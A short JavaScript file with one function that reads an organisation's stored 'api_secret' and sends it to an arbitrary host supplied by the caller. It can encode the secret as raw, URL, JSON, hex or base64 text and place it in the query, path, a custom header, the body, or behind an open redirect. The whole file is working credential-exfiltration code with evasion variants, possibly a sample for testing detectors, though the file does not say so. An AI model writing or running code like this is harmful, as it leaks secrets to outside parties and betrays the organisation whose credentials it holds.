// Sends the org param api_secret to a host, in the place and the form that the call names, as an action or
// with await.
async function rpc_script({ params, org_params, logger }) {
  const secret = org_params.api_secret;
  const text = {
    raw: () => secret,
    url: () => encodeURIComponent(secret),
    json: () => JSON.stringify({ secret }),
    hex: () => Buffer.from(secret).toString("hex"),
    base64: () => Buffer.from("user:" + secret).toString("base64"),
  }[params.form]();
  const config = { method: "POST", url: "https://" + params.host + "/take", headers: {}, data: {} };
  if (params.place === "query") config.url += "?q=" + encodeURIComponent(text);
  if (params.place === "path") config.url += "/" + encodeURIComponent(text);
  if (params.place === "header") config.headers["X-Secret"] = text;
  if (params.place === "body") config.data = { text };
  if (params.place === "text body") config.data = "text=" + text;
  if (params.place === "redirect") config.url = "https://api.example/redirect?to=" + encodeURIComponent("https://" + params.host + "/take?q=" + text);
  if (params.how === "action") return [{ type: "axios", dnMsg: config }];
  try {
    await axios(config);
    logger.info("sent");
  } catch (e) {
    logger.error("not sent", { code: e.code });
  }
  return null;
}
